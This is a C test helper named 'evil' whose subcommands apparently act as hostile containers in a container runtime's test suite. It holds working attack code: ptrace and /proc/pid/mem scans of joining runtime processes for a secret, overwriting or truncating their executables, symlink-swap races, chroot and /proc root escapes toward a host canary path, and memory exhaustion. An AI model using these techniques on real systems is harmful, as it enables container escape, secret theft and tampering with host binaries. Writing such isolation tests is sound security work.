/*
 * evil holds the programs that hostile containers of the tests run. The first
 * argument selects one. What they find they print, one fact per line.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef MAP_HUGE_SHIFT
#define MAP_HUGE_SHIFT 26
#endif
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

/* slurp reads a small file; the result is always a string. */
static ssize_t slurp(const char *path, char *buf, size_t size)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = -1;

	if (fd >= 0) {
		n = read(fd, buf, size - 1);
		close(fd);
	}
	buf[n < 0 ? 0 : n] = 0;
	return n;
}

static const char *link_of(const char *path)
{
	static char buf[PATH_MAX];
	ssize_t n = readlink(path, buf, sizeof buf - 1);

	if (n < 0)
		return NULL;
	buf[n] = 0;
	return buf;
}

/* fds: every open descriptor, found without opening one. */
static int fds(int argc, char **argv)
{
	char path[64];
	int fd;

	for (fd = 0; fd < 65536; fd++) {
		const char *l;

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		l = link_of(path);
		printf("fd %d %s\n", fd, l ? l : strerror(errno));
	}
	printf("end\n");
	return 0;
}

/* ids: who this process is, in words and as /proc says it. */
static int ids(int argc, char **argv)
{
	uid_t r, e, s;
	gid_t rg, eg, sg, groups[128];
	char line[4096];
	int i, n;
	FILE *f;

	getresuid(&r, &e, &s);
	getresgid(&rg, &eg, &sg);
	n = getgroups(128, groups);
	printf("uids %d %d %d\ngids %d %d %d\ngroups", r, e, s, rg, eg, sg);
	for (i = 0; i < n; i++)
		printf(" %d", groups[i]);
	printf("\n");
	f = fopen("/proc/self/status", "re");
	while (f && fgets(line, sizeof line, f))
		if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10) || !strncmp(line, "Seccomp:", 8))
			fputs(line, stdout);
	printf("end\n");
	return 0;
}

/* place: everything that an exec must have in common with its container. */
static int place(int argc, char **argv)
{
	static const char *ns[] = { "cgroup", "ipc", "mnt", "net", "pid", "user", "uts", "time", NULL };
	char path[64], buf[8192];
	struct rlimit l;
	mode_t m;
	int i;

	for (i = 0; ns[i]; i++) {
		const char *to;

		snprintf(path, sizeof path, "/proc/self/ns/%s", ns[i]);
		to = link_of(path);
		printf("ns %s %s\n", ns[i], to ? to : "-");
	}
	for (i = 0; i < RLIM_NLIMITS; i++)
		if (!getrlimit(i, &l))
			printf("rlimit %d %llu %llu\n", i, (unsigned long long)l.rlim_cur, (unsigned long long)l.rlim_max);
	m = umask(0);
	umask(m);
	printf("umask %o\n", m);
	slurp("/proc/self/oom_score_adj", buf, sizeof buf);
	printf("oom_score_adj %s", buf);
	printf("dumpable\n");
	fflush(stdout);
	ids(0, NULL);
	return 0;
}

/* stay: prints what place prints and stays. */
static int place_and_stay(int argc, char **argv)
{
	place(argc, argv);
	fflush(stdout);
	while (pause())
		;
	return 0;
}

static void result(const char *name, long r)
{
	int e = errno;

	printf("%s %s\n", name, r >= 0 ? "OK" : strerrorname_np(e));
	if (r > 2 && (!strncmp(name, "socket", 6) || !strcmp(name, "memfd")))
		close(r);
}

/* probe: what seccomp lets through. Harmless arguments throughout: what the
 * filter does not stop fails in the kernel with something other than EPERM. */
static int probe(int argc, char **argv)
{
	char big[256] = { 0 };
	struct iovec iov = { big, sizeof big };
	int i;

	errno = 0;
#define TRY(name, ...) do { errno = 0; result(name, syscall(__VA_ARGS__)); } while (0)
	TRY("socket_alg", SYS_socket, 38, SOCK_SEQPACKET, 0);
	TRY("socket_vsock", SYS_socket, 40, SOCK_STREAM, 0);
	TRY("socket_rxrpc", SYS_socket, 33, SOCK_DGRAM, 2);
	TRY("socket_key", SYS_socket, 15, SOCK_RAW, 2);
	TRY("socket_xfrm", SYS_socket, 16, SOCK_RAW, 6);
	TRY("socket_inet", SYS_socket, AF_INET, SOCK_STREAM, 0);
	TRY("socket_unix", SYS_socket, AF_UNIX, SOCK_STREAM, 0);
	TRY("socket_route", SYS_socket, 16, SOCK_RAW, 0);
	for (i = 0; i < 64; i++) {
		char name[32];

		snprintf(name, sizeof name, "socketfamily_%d", i);
		TRY(name, SYS_socket, i, SOCK_RAW, 0);
	}
	TRY("unshare_user", SYS_unshare, CLONE_NEWUSER);
	TRY("unshare_ns", SYS_unshare, CLONE_NEWNS);
	{
		long r;

		errno = 0;
		r = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
		if (r == 0)
			_exit(0);
		result("clone_user", r);
		errno = 0;
		r = syscall(SYS_clone, CLONE_NEWNS | SIGCHLD, 0, 0, 0, 0);
		if (r == 0)
			_exit(0);
		result("clone_ns", r);
	}
	TRY("clone3", SYS_clone3, big, 64);
	TRY("bpf", SYS_bpf, 0, big, 64);
	TRY("perf_event_open", SYS_perf_event_open, big, 0, -1, -1, 0);
	TRY("userfaultfd", SYS_userfaultfd, 0);
	TRY("io_uring_setup", SYS_io_uring_setup, 1, big);
	TRY("io_uring_enter", SYS_io_uring_enter, -1, 0, 0, 0, 0, 0);
	TRY("keyctl", SYS_keyctl, 0, -3, 0);
	TRY("add_key", SYS_add_key, "user", "x", "y", 1, -1);
	TRY("request_key", SYS_request_key, "user", "x", 0, -1);
	TRY("open_by_handle_at", SYS_open_by_handle_at, -1, big, 0);
	TRY("name_to_handle_at", SYS_name_to_handle_at, AT_FDCWD, "/nonexistent", big, &i, 0);
	TRY("mount", SYS_mount, "none", "/nonexistent", "tmpfs", 0, 0);
	TRY("umount2", SYS_umount2, "/nonexistent", 0);
	TRY("pivot_root", SYS_pivot_root, "/nonexistent", "/nonexistent");
	TRY("fsopen", SYS_fsopen, "tmpfs", 0);
	TRY("open_tree", SYS_open_tree, -1, "nonexistent", 0);
	TRY("move_mount", SYS_move_mount, -1, "a", -1, "b", 0);
	TRY("mount_setattr", SYS_mount_setattr, -1, "a", 0, big, 32);
	TRY("setns", SYS_setns, -1, 0);
	TRY("kexec_load", SYS_kexec_load, 0, 0, 0, ~0UL);
	TRY("init_module", SYS_init_module, big, 0, "");
	TRY("finit_module", SYS_finit_module, -1, "", 0);
	TRY("delete_module", SYS_delete_module, "nonexistent", 0);
	TRY("reboot", SYS_reboot, 0, 0, 0, 0);
	TRY("swapon", SYS_swapon, "/nonexistent", 0);
	TRY("acct", SYS_acct, "/nonexistent");
	TRY("quotactl", SYS_quotactl, 0, "/nonexistent", 0, 0);
	TRY("syslog", SYS_syslog, 100, 0, 0);
	TRY("lookup_dcookie", SYS_lookup_dcookie, 0, big, sizeof big);
	TRY("settimeofday", SYS_settimeofday, (void *)1, 0);
	TRY("process_vm_readv", SYS_process_vm_readv, 0, &iov, 1, &iov, 1, 0);
	TRY("ptrace_init", SYS_ptrace, PTRACE_SEIZE, 1, 0, 0);
	{
		/* A process of another user that does nothing. */
		int hello[2], st;
		pid_t other;

		if (pipe(hello))
			return 65;
		other = fork();
		if (other == 0) {
			if (setresgid(4321, 4321, 4321) || setresuid(4321, 4321, 4321))
				_exit(1);
			if (write(hello[1], "x", 1) != 1)
				_exit(1);
			pause();
			_exit(0);
		}
		close(hello[1]);
		if (read(hello[0], big, 1) == 1) { /* else there are no other users here */
			TRY("ptrace_other_uid", SYS_ptrace, PTRACE_SEIZE, other, 0, 0);
			TRY("process_vm_readv_other_uid", SYS_process_vm_readv, other, &iov, 1, &iov, 1, 0);
			TRY("process_vm_writev_other_uid", SYS_process_vm_writev, other, &iov, 1, &iov, 1, 0);
		}
		kill(other, SIGKILL);
		waitpid(other, &st, 0);
		close(hello[0]);
	}
	TRY("unknown_600", 600);
	TRY("unknown_4000", 4000);
#ifdef __x86_64__
	TRY("x32_getpid", 0x40000000 | SYS_getpid);
	TRY("iopl", SYS_iopl, 3);
	TRY("ioperm", SYS_ioperm, 0, 1, 1);
	TRY("modify_ldt", SYS_modify_ldt, 99, big, 0);
#endif
	printf("end\n");
	return 0;
}

/* Finds of watch: each distinct text once. */
static char *finds[4096];
static int nfinds;

static void find(const char *what, const char *detail)
{
	char buf[PATH_MAX + 64];
	int i;

	snprintf(buf, sizeof buf, "%s %s", what, detail);
	for (i = 0; i < nfinds; i++)
		if (!strcmp(finds[i], buf))
			return;
	if (nfinds < 4096)
		finds[nfinds++] = strdup(buf);
	printf("%s\n", buf);
	fflush(stdout);
}

/* joining says whether the process is one of our runtime that has not yet
 * executed the container's program: it still has the runtime's arguments. */
static int joining(int pid)
{
	char path[64], buf[64];

	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
	return slurp(path, buf, sizeof buf) > 0 && !strncmp(buf, "naru", 4);
}

/* A pattern to look for; see watch. */
struct pattern {
	unsigned char bytes[128];
	size_t len;
};

static void decode(struct pattern *p, const char *hex)
{
	size_t i;
	unsigned v;

	for (i = 0; hex[i] && hex[i + 1] && p->len < sizeof p->bytes; i += 2)
		if (sscanf(hex + i, "%2x", &v) == 1)
			p->bytes[p->len++] = v ^ 0x5a;
}

/* scan looks for the patterns in all memory that can be read through fd. */
static long scan(int pid, int fd, const struct pattern *secret, const struct pattern *control)
{
	static unsigned char buf[1 << 20];
	char path[64], line[512];
	long total = 0;
	FILE *f;

	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	f = fopen(path, "re");
	if (!f)
		return -1;
	while (fgets(line, sizeof line, f)) {
		unsigned long a, b;
		char perm[8];

		if (sscanf(line, "%lx-%lx %7s", &a, &b, perm) != 3 || perm[0] != 'r')
			continue;
		while (a < b) {
			size_t want = b - a < sizeof buf ? b - a : sizeof buf;
			ssize_t n = pread(fd, buf, want, (off_t)a);

			if (n <= 0) {
				a += want;
				continue;
			}
			total += n;
			if (memmem(buf, n, secret->bytes, secret->len)) {
				line[strcspn(line, "\n")] = 0;
				find("canary-in", line);
			}
			if (memmem(buf, n, control->bytes, control->len))
				find("control", "found");
			/* overlap, so that no occurrence is cut in two */
			if ((size_t)n > 128 && a + n < b)
				a += n - 128;
			else
				a += n;
		}
	}
	fclose(f);
	return total;
}

/* links reports what the symbolic links of a joining process name. */
static void links(int pid)
{
	static const char *one[] = { "exe", "cwd", "root", NULL };
	char path[PATH_MAX], what[64];
	struct dirent *e;
	int i;
	DIR *d;

	for (i = 0; one[i]; i++) {
		const char *l;

		snprintf(path, sizeof path, "/proc/%d/%s", pid, one[i]);
		l = link_of(path);
		if (l && joining(pid))
			find(one[i], l);
	}
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	d = opendir(path);
	if (!d)
		return;
	while ((e = readdir(d))) {
		const char *l;

		if (!isdigit(e->d_name[0]))
			continue;
		snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, e->d_name);
		l = link_of(path);
		if (!l || !joining(pid))
			continue;
		snprintf(what, sizeof what, "fd");
		if (!strncmp(l, "pipe:", 5))
			l = "pipe";
		else if (!strncmp(l, "socket:", 7))
			l = "socket";
		find(what, l);
	}
	closedir(d);
}

/* descend looks for the canary through the root, the working directory and
 * every folder that a joining process has open, and for the secret in what files
 * it has open. Pipes are left alone: to read one would only harm ourselves. */
static void descend(int pid, const char *canary, const struct pattern *secret, long *opened)
{
	static const char *one[] = { "root", "cwd", NULL };
	static unsigned char buf[1 << 16];
	char path[2 * PATH_MAX];
	struct dirent *e;
	struct stat st;
	int i, fd;
	DIR *d;

	for (i = 0; one[i]; i++) {
		snprintf(path, sizeof path, "/proc/%d/%s/../../../../../../../..%s", pid, one[i], canary);
		if (access(path, F_OK) == 0 && joining(pid))
			find("CANARY-through", one[i]);
	}
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	d = opendir(path);
	if (!d)
		return;
	while ((e = readdir(d))) {
		if (!isdigit(e->d_name[0]))
			continue;
		snprintf(path, sizeof path, "/proc/%d/fd/%s/../../../../../../..%s", pid, e->d_name, canary);
		if (access(path, F_OK) == 0 && joining(pid))
			find("CANARY-through", "fd");
		snprintf(path, sizeof path, "/proc/%d/fd/%s", pid, e->d_name);
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (!joining(pid)) { /* it executed its program before */
			close(fd);
			continue;
		}
		(*opened)++;
		if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode)) {
			int r = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
			ssize_t n;
			off_t at = 0;

			while (r >= 0 && (n = pread(r, buf, sizeof buf, at)) > 0 && at < 1 << 20) {
				if (memmem(buf, n, secret->bytes, secret->len))
					find("canary-in", path);
				if (n <= (ssize_t)secret->len)
					break;
				at += n - secret->len;
			}
			if (r >= 0)
				close(r);
		}
		close(fd);
	}
	closedir(d);
}

static void caps(int pid)
{
	char path[64], buf[8192], *p;

	snprintf(path, sizeof path, "/proc/%d/status", pid);
	if (slurp(path, buf, sizeof buf) <= 0 || !joining(pid))
		return;
	for (p = strtok(buf, "\n"); p; p = strtok(NULL, "\n"))
		if (!strncmp(p, "CapPrm", 6) || !strncmp(p, "CapEff", 6) || !strncmp(p, "CapBnd", 6) || !strncmp(p, "Uid", 3))
			find("joiner", p);
}

/*
 * watch SECRET CONTROL CANARY: attacks every process that joins, until SIGTERM,
 * and looks for the first two in its memory, and for the path CANARY of the host
 * through what it has open. The two are hex, each byte xored with 0x5a, so that
 * this program's own memory does not hold what it looks for.
 */
static volatile sig_atomic_t stopped;

static void stop(int sig) { stopped = 1; }

static int watch(int argc, char **argv)
{
	struct pattern secret = { .len = 0 }, control = { .len = 0 };
	long seen = 0, mem_ok = 0, mem_no = 0, seize_ok = 0, seize_no = 0, bytes = 0, opened = 0;
	int last = 0;
	DIR *d = opendir("/proc");

	if (argc != 4)
		return 64;
	signal(SIGTERM, stop);
	decode(&secret, argv[1]);
	decode(&control, argv[2]);
	printf("watching\n");
	fflush(stdout);
	while (!stopped) {
		struct dirent *e;

		rewinddir(d);
		while ((e = readdir(d))) {
			char path[64];
			int pid = atoi(e->d_name), fd;
			long r;

			if (pid <= 0 || pid == getpid() || !joining(pid))
				continue;
			if (pid == 1)
				continue; /* the pod's own first process */
			if (pid != last) {
				last = pid;
				seen++;
			}
			snprintf(path, sizeof path, "/proc/%d/mem", pid);
			r = ptrace(PTRACE_SEIZE, pid, 0, 0);
			if (r == 0) {
				int st, naru = joining(pid);

				/* A tracee must be stopped to be let go of. */
				ptrace(PTRACE_INTERRUPT, pid, 0, 0);
				waitpid(pid, &st, __WALL);
				if (naru)
					seize_ok++;
			} else if (joining(pid) && (errno == EPERM || errno == EACCES)) {
				seize_no++;
			}
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd >= 0) {
				if (joining(pid)) {
					long n = scan(pid, fd, &secret, &control);

					if (n > 0) {
						mem_ok++;
						bytes += n;
					}
				}
				close(fd);
			} else if (errno == EACCES || errno == EPERM) {
				mem_no++;
			}
			links(pid);
			descend(pid, argv[3], &secret, &opened);
			caps(pid);
			/* One that died meanwhile would stay a zombie of ours. */
			if (r == 0 && ptrace(PTRACE_DETACH, pid, 0, 0) < 0)
				while (waitpid(pid, NULL, __WALL) > 0)
					;
		}
	}
	printf("seen %ld\nmem_ok %ld\nmem_no %ld\nseize_ok %ld\nseize_no %ld\nopened %ld\nbytes %ld\nend\n", seen, mem_ok, mem_no, seize_ok, seize_no, opened, bytes);
	fflush(stdout);
	return 0;
}

/* grabexe: takes the program file of every process that joins and tries to
 * open it for writing, also after it is no longer executed. */
static int grabexe(int argc, char **argv)
{
	static int held[512];
	long seen = 0, grabbed = 0, wrote = 0, tried = 0;
	int n = 0, i, last = 0, my = getpid();
	DIR *d = opendir("/proc");

	signal(SIGTERM, stop);
	printf("watching\n");
	fflush(stdout);
	while (!stopped) {
		struct dirent *e;

		rewinddir(d);
		while ((e = readdir(d))) {
			char path[64];
			int pid = atoi(e->d_name), fd;
			const char *l;

			if (pid <= 0 || pid == my)
				continue;
			if (pid != last) {
				seen++;
				last = pid;
			}
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
			l = link_of(path);
			if (!l || !strncmp(l, "/bin/", 5) || n == 512) {
				close(fd);
				continue;
			}
			find("exe", l);
			grabbed++;
			held[n++] = fd;
		}
		for (i = 0; i < n; i++) {
			char path[64];
			int w;

			snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
			tried++;
			w = open(path, O_WRONLY | O_CLOEXEC);
			if (w >= 0) {
				if (write(w, "#!/bin/evil pwned\n", 18) == 18) {
					wrote++;
					find("WROTE", path);
				}
				close(w);
			}
			w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
			if (w >= 0) {
				wrote++;
				find("TRUNCATED", path);
				close(w);
			}
		}
	}
	printf("seen %ld\ngrabbed %ld\ntried %ld\nwrote %ld\nend\n", seen, grabbed, tried, wrote);
	fflush(stdout);
	return 0;
}

/* swap A B: exchanges two names until it is killed. */
static int swap(int argc, char **argv)
{
	unsigned long n = 0;

	signal(SIGTERM, stop);
	printf("swapping\n");
	fflush(stdout);
	while (!stopped)
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0)
			n++;
	printf("swaps %lu\nend\n", n);
	fflush(stdout);
	return 0;
}

/*
 * swapwork DIR CANARY: makes DIR, a working directory, again and again a link to
 * some descriptor of whoever enters it, and looks whether any process stands
 * where it can see CANARY, a path of the host.
 */
static int swapwork(int argc, char **argv)
{
	char tmp[PATH_MAX], to[64], path[2 * PATH_MAX];
	unsigned long n = 0, looked = 0;
	int i = 3;
	DIR *d = opendir("/proc");

	signal(SIGTERM, stop);
	snprintf(tmp, sizeof tmp, "%s.link", argv[1]);
	printf("swapping\n");
	fflush(stdout);
	while (!stopped) {
		struct dirent *e;

		snprintf(to, sizeof to, "/proc/self/fd/%d", i);
		if (++i > 64)
			i = 3;
		/* In turns the folder is at DIR and the link aside, and the other way. */
		if (n % 2 == 0) {
			unlink(tmp);
			if (symlink(to, tmp))
				continue;
		}
		if (syscall(SYS_renameat2, AT_FDCWD, tmp, AT_FDCWD, argv[1], RENAME_EXCHANGE) == 0)
			n++;
		rewinddir(d);
		while ((e = readdir(d))) {
			if (!isdigit(e->d_name[0]))
				continue;
			looked++;
			snprintf(path, sizeof path, "/proc/%s/cwd/../../../../../../../../../..%s", e->d_name, argv[2]);
			if (access(path, F_OK) == 0)
				find("CANARY through", path);
			snprintf(path, sizeof path, "/proc/%s/root%s", e->d_name, argv[2]);
			if (access(path, F_OK) == 0)
				find("CANARY through", path);
		}
	}
	printf("swaps %lu\nlooked %lu\nend\n", n, looked);
	fflush(stdout);
	return 0;
}

/* walk CANARY: the classic ways out of a changed root. */
static int walk(int argc, char **argv)
{
	char path[PATH_MAX];
	int top = open("/", O_RDONLY | O_DIRECTORY), i;

	snprintf(path, sizeof path, "/proc/1/root%s", argv[1]);
	printf("proc-root %s\n", access(path, F_OK) ? "no" : "CANARY");
	snprintf(path, sizeof path, "/proc/self/root/../../../..%s", argv[1]);
	printf("proc-self-root %s\n", access(path, F_OK) ? "no" : "CANARY");
	mkdir("/jail", 0755);
	errno = 0;
	printf("chroot %s\n", chroot("/jail") ? strerrorname_np(errno) : "OK");
	printf("fchdir %s\n", fchdir(top) ? strerrorname_np(errno) : "OK");
	for (i = 0; i < 100; i++)
		if (chdir(".."))
			break;
	printf("steps %d\n", i);
	printf("chroot2 %s\n", chroot(".") ? strerrorname_np(errno) : "OK");
	printf("walked %s\n", access(argv[1], F_OK) ? "no" : "CANARY");
	printf("rootfs %s\n", access("/bin/evil", F_OK) ? "no" : "yes");
	printf("end\n");
	return 0;
}

/* hog MIB: takes memory, touches it and stays. */
static int hog(int argc, char **argv)
{
	size_t n = strtoul(argv[1], NULL, 10) << 20, i;
	char *p = mmap(NULL, n, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (p == MAP_FAILED)
		return 65;
	for (i = 0; i < n; i += 4096)
		p[i] = 1;
	printf("have it\n");
	return 0;
}

/* kind: what the named files are, and how much can be read from them. */
static int kind(int argc, char **argv)
{
	int i;

	for (i = 1; i < argc; i++) {
		struct stat st;
		char buf[256];
		ssize_t n;

		if (stat(argv[i], &st)) {
			printf("%s %s\n", argv[i], strerrorname_np(errno));
			continue;
		}
		/* Reading a terminal would wait for somebody to type. */
		n = S_ISREG(st.st_mode) || (S_ISCHR(st.st_mode) && st.st_rdev >> 8 == 1) ? slurp(argv[i], buf, sizeof buf) : 0;
		printf("%s %o %x:%x %zd\n", argv[i], st.st_mode & S_IFMT, (unsigned)(st.st_rdev >> 8), (unsigned)(st.st_rdev & 0xff), n);
	}
	printf("end\n");
	return 0;
}

static void *sleep_on(void *arg)
{
	for (;;)
		pause();
	return arg;
}

/*
 * hold FILE MIB: has some of everything that is counted, and stays: anonymous
 * memory, a mapped file, a huge page, 40 descriptors, 20 pairs of sockets, 5 processes, 6
 * threads.
 */
static int hold(int argc, char **argv)
{
	size_t n = strtoul(argv[2], NULL, 10) << 20, i;
	int fd = open(argv[1], O_RDONLY), pair[2];
	char *mem = mmap(NULL, n, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	volatile char *file;
	struct stat st;
	pthread_t t;

	if (fd < 0 || fstat(fd, &st) || mem == MAP_FAILED)
		return 65;
	/* Read from the disk, not from the cache: that is a major fault. */
	posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
	file = mmap(NULL, st.st_size, PROT_READ, MAP_SHARED, fd, 0);
	if (file == MAP_FAILED)
		return 65;
	madvise((void *)file, st.st_size, MADV_RANDOM);
	for (i = 0; i < n; i += 4096)
		mem[i] = 1;
	for (i = 0; i < st.st_size; i += 4096)
		(void)file[i];
	/* A huge page, where the machine has one to spare. */
	mem = mmap(NULL, 2 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB | 21 << MAP_HUGE_SHIFT, -1, 0);
	if (mem != MAP_FAILED)
		mem[0] = 1;
	for (i = 0; i < 4; i++)
		if (fork() == 0)
			sleep_on(NULL);
	for (i = 0; i < 5; i++)
		if (pthread_create(&t, NULL, sleep_on, NULL))
			return 66;
	for (i = 0; i < 40; i++)
		if (dup(fd) < 0)
			return 67;
	for (i = 0; i < 20; i++)
		if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
			return 68;
	printf("holding\n");
	fflush(stdout);
	sleep_on(NULL);
	return 0;
}

struct tool {
	const char *name;
	int (*run)(int argc, char **argv);
};

static const struct tool tools[] = {
	{ "fds", fds }, { "ids", ids }, { "place", place }, { "stay", place_and_stay }, { "probe", probe }, { "watch", watch },
	{ "grabexe", grabexe }, { "swap", swap }, { "swapwork", swapwork }, { "walk", walk }, { "hog", hog }, { "kind", kind },
	{ "hold", hold },
	{ NULL, NULL },
};

int main(int argc, char **argv)
{
	const struct tool *t;

	if (argc < 2)
		return 64;
	for (t = tools; t->name; t++)
		if (!strcmp(t->name, argv[1]))
			return t->run(argc - 1, argv + 1);
	fprintf(stderr, "evil: unknown tool %s\n", argv[1]);
	return 64;
}
